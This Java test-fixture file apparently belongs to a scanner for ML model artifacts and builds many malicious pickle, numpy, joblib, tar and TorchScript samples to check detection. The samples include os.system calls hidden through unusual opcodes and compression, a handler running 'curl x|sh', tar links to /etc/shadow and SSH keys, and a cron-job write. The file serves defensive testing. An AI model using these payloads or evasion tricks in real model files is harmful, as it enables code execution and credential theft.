package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.ModelFormatsScanTest.joined;
import static dev.bartizan.artifacts.ModelFormatsScanTest.utf8;
import static dev.bartizan.artifacts.PickleParts.bytes;
import static dev.bartizan.artifacts.PickleParts.call;
import static dev.bartizan.artifacts.PickleParts.dict;
import static dev.bartizan.artifacts.PickleParts.number;
import static dev.bartizan.artifacts.PickleParts.pickle;
import static dev.bartizan.artifacts.PickleParts.text;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.DeflaterOutputStream;
import org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream;
import org.apache.commons.compress.compressors.lz4.FramedLZ4CompressorOutputStream;
import org.tukaani.xz.LZMA2Options;
import org.tukaani.xz.LZMAOutputStream;
import org.tukaani.xz.XZOutputStream;

/// Pickles that say the same in unusual opcodes, and the wrappings that frameworks put around them.
final class MachineTrials {
    private static final byte[] PAYLOAD = Pickles.calling("os", "system");
    private static final byte[] PLAIN = pickle(dict(text("epoch"), number(3)));

    private final List<Trial> all = new ArrayList<>();

    static List<Trial> all() {
        MachineTrials trials = new MachineTrials();
        trials.opcodes();
        trials.numbering();
        trials.streams();
        trials.wrapped();
        trials.torch();
        return trials.all;
    }

    private void malicious(String name, String file, byte[] bytes) {
        all.add(Trial.malicious("machine/" + name, file, bytes));
    }

    private void bad(String name, String file, byte[] bytes) {
        all.add(Trial.bad("machine/" + name, file, bytes));
    }

    private void bad(String name, byte[] bytes) {
        bad(name, "m.pkl", bytes);
    }

    private static Pickles p(int protocol) {
        return Pickles.protocol(protocol);
    }

    private static byte[] old(String opcodes) {
        return opcodes.getBytes(StandardCharsets.ISO_8859_1);
    }

    private void opcodes() {
        bad("inst-two-arguments", old("(S'id'\nI0\niplatform\npopen\n."));
        bad("inst-within-list", old("(lp0\n(S'touch x'\nios\nsystem\na."));
        bad("obj-with-global", old("(cos\nsystem\nS'touch x'\no."));
        bad(
                "old-unicode-names",
                p(4).ops("V\\u006fs\nV\\u0073ystem\n")
                        .op(0x93)
                        .text("id")
                        .op(0x85)
                        .ops("R.")
                        .bytes());
        bad(
                "old-string-escape-names",
                p(4).ops("S'\\x6f\\x73'\nS'\\163ystem'\n")
                        .op(0x93)
                        .text("id")
                        .op(0x85)
                        .ops("R.")
                        .bytes());
        bad("double-quoted-string", old("cos\nsystem\n(S\"touch x\"\ntR."));
        bad(
                "newobj-ex",
                p(4).global("subprocess", "Popen")
                        .text("id")
                        .op(0x85)
                        .ops("}")
                        .text("shell")
                        .op(0x88)
                        .ops("s")
                        .op(0x92)
                        .stop());
        bad(
                "newobj-ex-keywords-only",
                p(4).global("subprocess", "Popen")
                        .ops(")}")
                        .text("args")
                        .text("id")
                        .ops("s")
                        .op(0x92)
                        .stop());
        bad(
                "long-names",
                p(4).op(0x8d)
                        .int64(2)
                        .raw(utf8("os"))
                        .op(0x8d)
                        .int64(6)
                        .raw(utf8("system"))
                        .op(0x93)
                        .text("id")
                        .op(0x85)
                        .ops("R.")
                        .bytes());
        bad(
                "bytearray-argument",
                p(5).global("pickle", "loads")
                        .op(0x96)
                        .int64(PAYLOAD.length)
                        .raw(PAYLOAD)
                        .op(0x85)
                        .ops("R.")
                        .bytes());
        bad(
                "readonly-buffer",
                p(5).global("pickle", "loads")
                        .op(0x96)
                        .int64(PAYLOAD.length)
                        .raw(PAYLOAD)
                        .op(0x98)
                        .op(0x85)
                        .ops("R.")
                        .bytes());
        bad("frozenset-around", p(4).ops("(").call("os", "system", "id").op(0x91).stop());
        bad("in-dict-key", p(2).ops("}").call("os", "system", "id").ops("Ns").stop());
        bad("in-set-items", p(4).op(0x8f).ops("(").call("os", "system", "id").op(0x90).stop());
        bad("popped-mark", p(2).ops("(").call("os", "system", "id").ops("1N").stop());
        bad("popped-result", p(2).call("os", "system", "id").ops("0N").stop());
        bad(
                "dup-callable",
                p(2).global("os", "system")
                        .ops("2")
                        .text("id")
                        .op(0x85)
                        .ops("R0")
                        .text("x")
                        .op(0x85)
                        .ops("R")
                        .stop());
        bad(
                "build-after-newobj",
                p(2).global("collections", "OrderedDict")
                        .ops(")")
                        .op(0x81)
                        .ops("}")
                        .text("__class__")
                        .global("evil", "A")
                        .ops("sb")
                        .stop());
        bad(
                "build-setstate",
                p(2).global("mypackage", "A")
                        .ops(")")
                        .op(0x81)
                        .ops("}")
                        .text("__setstate__")
                        .global("os", "system")
                        .ops("sb")
                        .text("touch x")
                        .ops("b")
                        .stop());
        bad(
                "extend-of-instance",
                p(2).global("builtins", "list")
                        .ops(")R}")
                        .text("extend")
                        .global("os", "system")
                        .ops("sb(")
                        .text("id")
                        .ops("e")
                        .stop());
        bad(
                "append-attribute",
                p(2).global("mypackage", "A")
                        .ops(")")
                        .op(0x81)
                        .ops("}")
                        .text("append")
                        .global("os", "system")
                        .ops("sb")
                        .text("id")
                        .ops("a")
                        .stop());
        bad("persistent-id-call", p(2).call("os", "system", "id").ops("Q.").bytes());
        bad("persistent-id-text", old("Pos.system('id')\n0cos\nsystem\n(S'id'\ntR."));
        bad("extension-one", p(2).op(0x82).op(7).text("id").op(0x85).ops("R").stop());
        bad("extension-two", p(2).op(0x83).op(7).op(1).text("id").op(0x85).ops("R").stop());
        bad(
                "registers-extension",
                p(2).global("copyreg", "add_extension")
                        .text("os")
                        .text("system")
                        .ops("K\u0007")
                        .op(0x87)
                        .ops("R")
                        .stop());
        bad("long-as-text", old("cos\nkill\n(L1L\nI9\ntR."));
        bad(
                "names-with-blanks",
                p(4).text("os ").text("system").op(0x93).text("id").op(0x85).ops("R").stop());
        bad(
                "names-fullwidth",
                p(4).text("os").text("ｓｙｓｔｅｍ").op(0x93).text("id").op(0x85).ops("R").stop());
        bad("module-of-python-two", p(2).call("__builtin__", "execfile", "/tmp/x").stop());
        bad("module-renamed", p(2).call("cPickle", "loads", "x").stop());
        bad("reduced-class", p(2).call("urllib2", "urlopen", "http://198.51.100.7").stop());
        bad(
                "dotted-through-numpy",
                p(4).text("numpy").text("os.system").op(0x93).text("id").op(0x85).ops("R").stop());
        bad(
                "dotted-through-torch",
                p(4).text("torch.serialization")
                        .text("os.system")
                        .op(0x93)
                        .text("id")
                        .op(0x85)
                        .ops("R")
                        .stop());
        bad(
                "dotted-through-class",
                p(4).text("collections").text("OrderedDict.__init__.__globals__").op(0x93).stop());
        bad(
                "dotted-subclasses",
                p(4).text("builtins").text("object.__subclasses__").op(0x93).ops(")R").stop());
        bad(
                "dotted-import",
                p(4).text("logging")
                        .text("sys.modules.get")
                        .op(0x93)
                        .text("os")
                        .op(0x85)
                        .ops("R")
                        .stop());
    }

    private void numbering() {
        bad(
                "memo-overwritten",
                p(2).global("builtins", "print")
                        .ops("q\0000")
                        .global("os", "system")
                        .ops("q\0000h\0")
                        .text("id")
                        .op(0x85)
                        .ops("R")
                        .stop());
        bad(
                "memo-long",
                p(2).global("os", "system")
                        .ops("r")
                        .int32(70000)
                        .ops("0j")
                        .int32(70000)
                        .text("id")
                        .op(0x85)
                        .ops("R")
                        .stop());
        bad("memo-text-number", old("cos\nsystem\np007\n0g7\n(S'id'\ntR."));
        bad(
                "memo-of-names",
                p(4).text("os")
                        .op(0x94)
                        .ops("0")
                        .text("system")
                        .op(0x94)
                        .ops("0h\0h\1")
                        .op(0x93)
                        .text("id")
                        .op(0x85)
                        .ops("R")
                        .stop());
        bad(
                "memo-from-tuple",
                p(2).text("id").op(0x85).ops("q\0010").global("os", "system").ops("h\1R").stop());
        bad("memo-negative", old("cos\nsystem\np-1\n0g-1\n(S'id'\ntR."));
        bad("frame-short", p(4).op(0x95).int64(4).ops("N0N0").call("os", "system", "id").stop());
        bad(
                "frame-in-frame",
                p(4).op(0x95).int64(60).op(0x95).int64(20).call("os", "system", "id").stop());
        bad("frame-empty", p(4).op(0x95).int64(0).call("os", "system", "id").stop());
        bad(
                "proto-later",
                joined(old("cos\nsystem\n"), new byte[] {(byte) 0x80, 2}, old("(S'id'\ntR.")));
        bad(
                "proto-repeated",
                joined(
                        new byte[] {(byte) 0x80, 4, (byte) 0x80, 0},
                        old("cos\nsystem\n(S'id'\ntR.")));
        bad("dict-opcode-with-call", old("(S'a'\ncos\nsystem\n(S'id'\ntRd."));
    }

    private void streams() {
        bad("after-newlines", "m.pkl", joined(utf8("\n\n"), PLAIN, PAYLOAD));
        bad("hundredth", "m.pkl", joined(repeated(PLAIN, 99), PAYLOAD));
        bad(
                "behind-array",
                "m.npy",
                joined(FormatScanTest.npy("'<f8'", "(2,)", new byte[16]), PAYLOAD));
        bad(
                "behind-object-array",
                "m.npy",
                FormatScanTest.npy("'|O'", "(1,)", joined(PLAIN, PAYLOAD)));
        bad(
                "object-in-structure",
                "m.npy",
                FormatScanTest.npy("[('a', '<f4'), ('b', '|O')]", "(1,)", PAYLOAD));
        bad(
                "structure-of-structures",
                "m.npy",
                FormatScanTest.npy("[('a', [('b', 'O')], (2,))]", "(1,)", PAYLOAD));
        bad(
                "two-arrays-second-objects",
                "m.npy",
                joined(
                        FormatScanTest.npy("'<f8'", "(1,)", new byte[8]),
                        FormatScanTest.npy("'|O'", "(1,)", PAYLOAD)));
        bad(
                "archive-of-arrays",
                "m.npz",
                Scans.zip(Map.of("a.npy", FormatScanTest.npy("'|O'", "()", PAYLOAD))));
        bad("archive-raw-pickle", "m.npz", Scans.zip(Map.of("a", PAYLOAD)));
        bad("named-as-picture", "logo.png", PAYLOAD);
        bad("named-as-text", "README.md", old("cposix\nsystem\n(S'id'\ntR."));
        bad("named-as-json", "config.json", PAYLOAD);
        bad("behind-json", "config.json", joined(utf8("{\"model_type\":\"bert\"}\n"), PAYLOAD));
        bad(
                "in-bytes-base64",
                "m.pkl",
                pickle(dict(text("blob"), bytes(java.util.Base64.getEncoder().encode(PAYLOAD)))));
        bad(
                "in-bytes-gzip",
                "m.pkl",
                pickle(dict(text("blob"), bytes(TensorTrials.gzip(PAYLOAD)))));
        bad(
                "unpickled-inside",
                "m.pkl",
                pickle(call("pickle:loads", bytes(pickle(call("pickle:loads", bytes(PAYLOAD)))))));
    }

    private static byte[] repeated(byte[] bytes, int times) {
        byte[][] parts = new byte[times][];
        Arrays.fill(parts, bytes);
        return joined(parts);
    }

    /// Opens a packing stream.
    interface Packer {
        OutputStream open(OutputStream out) throws IOException;
    }

    static byte[] packed(Packer packer, byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream stream = packer.open(out)) {
            stream.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private void wrapped() {
        malicious("joblib-zlib", "m.joblib", packed(DeflaterOutputStream::new, PAYLOAD));
        malicious("joblib-bz2", "m.joblib", packed(BZip2CompressorOutputStream::new, PAYLOAD));
        malicious(
                "joblib-lzma",
                "m.joblib",
                packed(o -> new LZMAOutputStream(o, new LZMA2Options(), -1), PAYLOAD));
        malicious(
                "joblib-xz",
                "m.pkl",
                packed(o -> new XZOutputStream(o, new LZMA2Options()), PAYLOAD));
        malicious("joblib-lz4", "m.joblib", packed(FramedLZ4CompressorOutputStream::new, PAYLOAD));
        malicious(
                "packed-thrice",
                "m.bin",
                TensorTrials.gzip(
                        packed(BZip2CompressorOutputStream::new, TensorTrials.gzip(PAYLOAD))));
        malicious(
                "second-gzip-member",
                "m.pkl.gz",
                joined(TensorTrials.gzip(PLAIN), TensorTrials.gzip(PAYLOAD)));
        malicious(
                "two-xz-streams",
                "m.xz",
                joined(
                        packed(o -> new XZOutputStream(o, new LZMA2Options()), PLAIN),
                        packed(o -> new XZOutputStream(o, new LZMA2Options()), PAYLOAD)));
        malicious(
                "two-bz2-streams",
                "m.pkl.bz2",
                joined(
                        packed(BZip2CompressorOutputStream::new, PLAIN),
                        packed(BZip2CompressorOutputStream::new, PAYLOAD)));
        malicious(
                "behind-zlib",
                "m.joblib",
                joined(packed(DeflaterOutputStream::new, PLAIN), PAYLOAD));
        malicious("zstd", "m.pkl.zst", com.github.luben.zstd.Zstd.compress(PAYLOAD));
        malicious(
                "zstd-after-skippable",
                "m.zst",
                joined(
                        new byte[] {0x50, 0x2a, 0x4d, 0x18, 4, 0, 0, 0, 1, 2, 3, 4},
                        com.github.luben.zstd.Zstd.compress(PAYLOAD)));
        malicious(
                "tar-of-zlib",
                "m.tar",
                FormatScanTest.tar(
                        "a/w.joblib", '0', "", packed(DeflaterOutputStream::new, PAYLOAD)));
        bad("tar-device", "m.tar", FormatScanTest.tar("sda", '4', "", new byte[0]));
        bad(
                "tar-hard-link-away",
                "m.tar",
                FormatScanTest.tar("w.bin", '1', "../../etc/shadow", new byte[0]));
        bad(
                "tar-absolute-link",
                "m.tar",
                FormatScanTest.tar("w.bin", '2', "/root/.ssh/id_rsa", new byte[0]));
        bad(
                "tar-absolute-name",
                "m.tar",
                FormatScanTest.tar("/etc/cron.d/x", '0', "", utf8("* * * * * root id\n")));
        bad(
                "tar-windows-name",
                "m.tar",
                FormatScanTest.tar("C:\\Windows\\x.dll", '0', "", utf8("x")));
        bad("tar-in-middle-dots", "m.tar", FormatScanTest.tar("a/../../b", '0', "", utf8("x")));
    }

    private static byte[] torchZip(String... namesAndTexts) {
        Map<String, byte[]> members = new java.util.LinkedHashMap<>();
        members.put("archive/data.pkl", PLAIN);
        members.put("archive/version", utf8("3\n"));
        for (int i = 0; i < namesAndTexts.length; i += 2) {
            members.put(namesAndTexts[i], utf8(namesAndTexts[i + 1]));
        }
        return Scans.zip(members);
    }

    private void torch() {
        bad(
                "torch-extra-pickle",
                "m.pt",
                Scans.zip(
                        Map.of(
                                "archive/data.pkl",
                                PLAIN,
                                "archive/extra/config",
                                PAYLOAD,
                                "archive/version",
                                utf8("3"))));
        bad(
                "torch-constants",
                "m.pt",
                Scans.zip(
                        Map.of(
                                "archive/data.pkl",
                                PLAIN,
                                "archive/constants.pkl",
                                PAYLOAD,
                                "archive/version",
                                utf8("3"))));
        bad(
                "torch-storage-pickle",
                "m.pt",
                Scans.zip(Map.of("archive/data.pkl", PLAIN, "archive/data/0", PAYLOAD)));
        bad(
                "torch-two-roots",
                "m.pt",
                Scans.zip(Map.of("archive/data.pkl", PLAIN, "other/data.pkl", PAYLOAD)));
        bad(
                "torch-upper-case",
                "m.pt",
                Scans.zip(Map.of("archive/DATA.PKL", PAYLOAD, "archive/data.pkl", PLAIN)));
        bad(
                "torchscript-from-file",
                "m.pt",
                torchZip(
                        "archive/code/__torch__/m.py",
                        "class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    y = torch.from_file(\"/etc/passwd\", False, 100)\n    return y\n"));
        bad(
                "torchscript-custom-op",
                "m.pt",
                torchZip(
                        "archive/code/__torch__/m.py",
                        "class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    _0 = ops.evil.run_shell(\"id\")\n    return x\n"));
        bad(
                "torchscript-save",
                "m.pt",
                torchZip(
                        "archive/code/__torch__/m.py",
                        "class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    torch.save(\"x\", \"/root/.bashrc\")\n    return x\n"));
        bad(
                "torch-package-code",
                "m.pt",
                torchZip(
                        "archive/.data/extern_modules",
                        "os\nsubprocess\n",
                        "archive/model/__init__.py",
                        "import os\nos.system('id')\n"));
        bad(
                "mar-handler",
                "m.mar",
                torchZip(
                        "MAR-INF/MANIFEST.json",
                        "{\"model\":{\"handler\":\"h.py\"}}",
                        "h.py",
                        "import subprocess\nsubprocess.run(['sh','-c','curl x|sh'])\n"));
        bad(
                "mar-requirements",
                "m.mar",
                torchZip(
                        "MAR-INF/MANIFEST.json",
                        "{\"model\":{\"handler\":\"h.py\",\"requirementsFile\":\"requirements.txt\"}}",
                        "h.py",
                        "class H: pass\n",
                        "requirements.txt",
                        "--index-url http://198.51.100.7/simple\ntorch\n"));
        bad(
                "persistent-storage-type",
                "m.pkl",
                p(2).ops("(")
                        .text("storage")
                        .global("os", "system")
                        .text("0")
                        .text("cpu")
                        .ops("K\1tQ")
                        .stop());
        bad(
                "torch-rebuild-from-type",
                "m.pkl",
                p(2).global("torch._tensor", "_rebuild_from_type_v2")
                        .ops("(")
                        .global("os", "system")
                        .global("torch", "Tensor")
                        .text("id")
                        .op(0x85)
                        .ops("}tR")
                        .stop());
        bad(
                "torch-load-from-bytes",
                "m.pkl",
                p(2).global("torch.storage", "_load_from_bytes")
                        .bytes(PAYLOAD)
                        .op(0x85)
                        .ops("R")
                        .stop());
    }
}
